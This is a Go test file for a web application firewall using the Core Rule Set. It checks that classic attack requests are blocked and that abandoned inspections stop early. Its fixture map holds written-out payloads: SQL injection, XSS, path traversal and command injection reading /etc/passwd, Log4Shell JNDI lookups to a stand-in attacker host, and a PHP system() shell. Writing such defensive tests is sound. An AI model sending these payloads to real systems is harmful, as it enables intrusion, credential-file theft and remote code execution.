package waf

import (
	"net/http"
	"net/url"
	"strconv"
	"sync"
	"testing"
)

var (
	crsOnce sync.Once
	crsP1   *engine
	crsErr  error
)

// paranoia1 is the CRS at paranoia 1, blocking, built once for the tests.
func paranoia1(t testing.TB) *engine {
	crsOnce.Do(func() {
		rc := &RouteConfig{}
		rc.SetDefaults()
		w, err := newCRS(rc)
		crsP1, crsErr = &engine{crs: w, bodyLimit: int64(rc.BodyLimit)}, err
	})
	if crsErr != nil {
		t.Fatal(crsErr)
	}
	return crsP1
}

func get(rawURI string, headers ...string) *snapshot {
	u, _ := url.ParseRequestURI(rawURI)
	s := &snapshot{method: "GET", uri: rawURI, path: u.Path, query: u.RawQuery, proto: "HTTP/1.1", host: "shop.example",
		header: http.Header{"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
			"Accept": {"text/html,application/xhtml+xml"}, "Accept-Language": {"en-US,en;q=0.5"}, "Accept-Encoding": {"gzip, deflate, br"}},
		client: "192.0.2.10"}
	for i := 0; i+1 < len(headers); i += 2 {
		s.header.Set(headers[i], headers[i+1])
	}
	return s
}

func post(path, ctype, body string) *snapshot {
	s := get(path)
	s.method = "POST"
	s.header.Set("Content-Type", ctype)
	s.header.Set("Content-Length", strconv.Itoa(len(body)))
	s.body = []byte(body)
	return s
}

// classicAttacks are the attacks CRS must block at paranoia 1.
func classicAttacks() map[string]*snapshot {
	return map[string]*snapshot{
		"sql injection (query)":   get("/products?id=1%27%20OR%20%271%27%3D%271"),
		"sql injection (union)":   get("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
		"sql injection (form)":    post("/login", "application/x-www-form-urlencoded", "user=admin%27--&pass=x"),
		"xss (query)":             get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
		"xss (event handler)":     get("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
		"path traversal":          get("/download?file=../../../../etc/passwd"),
		"command injection":       get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"),
		"log4shell in a header":   get("/", "X-Api-Version", "${jndi:ldap://attacker.example/a}"),
		"log4shell in user agent": get("/", "User-Agent", "${jndi:ldap://attacker.example/a}"),
		"php injection (json)":    post("/api", "application/json", `{"cmd":"<?php system($_GET['c']); ?>"}`),
	}
}

// The classic attacks, blocked at paranoia 1.
func TestCRSBlocksClassicAttacks(t *testing.T) {
	e := paranoia1(t)
	attacks := classicAttacks()
	for name, s := range attacks {
		v := e.inspect(s)
		if v.err != nil || !v.block {
			t.Errorf("%s: not blocked (err %v, rules %v)", name, v.err, v.ids)
		} else {
			t.Logf("%s: blocked by %v", name, v.ids)
		}
	}
}

// An inspection whose request has already gone on (its budget ran out)
// stops at the next phase boundary: an attack it would have blocked
// yields no verdict and no rule, so no CPU is spent on phase 2.
func TestAbandonedInspectionStops(t *testing.T) {
	e := paranoia1(t)
	s := get("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--")
	if v := e.inspect(s); !v.block {
		t.Fatalf("the attack is not blocked when inspected: %+v", v)
	}
	s = get("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--")
	s.abandoned.Store(true)
	if v := e.inspect(s); v.block || !v.abandoned || len(v.ids) != 0 {
		t.Fatalf("an abandoned inspection ran on: %+v", v)
	}
}
